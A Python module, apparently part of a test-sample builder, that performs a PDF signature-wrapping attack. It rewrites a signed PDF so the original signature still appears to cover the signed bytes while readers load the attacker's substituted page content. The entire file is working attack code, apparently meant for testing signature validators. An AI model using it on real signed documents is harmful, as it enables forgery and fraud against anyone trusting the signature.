"""Signature wrapping: the signed bytes stay, another document is read."""

from samples.builder.pdf import PdfFile, Raw, Stream, serialise

__all__ = ["wrapped"]

EVIL = b"q 1 0 0 rg 100 300 300 120 re f Q"


def wrapped(pdf: PdfFile) -> bytes:
    """Move the last signature's second range to the end, and read other objects from the gap.

    The file still ends with the old `startxref`; at that offset, now inside the gap, stands the attacker's
    table. It names his copies of the last update's objects: a signature dictionary with the old /Contents and
    a /ByteRange that covers the very bytes that were signed, and page content of his own.
    """
    data, at = pdf.data, pdf.startxref
    hole = data.rindex(b"/Contents <") + len(b"/Contents ")
    end = data.index(b">", hole) + 1
    tail = data[end:]
    objects = {number: pdf.objects[number] for number in pdf.last_changed}
    content = pdf.get(pdf.pages[0])["Contents"]
    objects[content.number] = Stream({}, EVIL)
    signature = next(n for n, v in objects.items() if isinstance(v, dict) and "ByteRange" in v)
    block = b""
    for _ in range(2):
        ranges = Raw(b"[0 %010d %010d %010d]" % (hole, at + len(block), len(tail)))
        objects[signature] = {**objects[signature], "ByteRange": ranges}
        block = _block(pdf, objects, at)
    return data[:hole] + data[hole:end].ljust(at - hole) + block + tail


def _block(pdf: PdfFile, objects: dict[int, object], at: int) -> bytes:
    """Cross-reference table first, for readers jump to `at`; then the objects it names."""
    bodies = {n: b"%d 0 obj\n" % n + serialise(v) + b"\nendobj\n" for n, v in sorted(objects.items())}
    trailer = {"Size": max(pdf.objects) + 1, "Root": pdf.root, "Info": pdf.info, "Prev": pdf.previous}
    written = b"trailer\n" + serialise(trailer) + b"\n"
    offset = at + len(b"xref\n") + sum(len(b"%d 1\n" % n) + 20 for n in bodies) + len(written)
    rows = b""
    for number, body in bodies.items():
        rows += b"%d 1\n%010d 00000 n \n" % (number, offset)
        offset += len(body)
    return b"xref\n" + rows + written + b"".join(bodies.values())
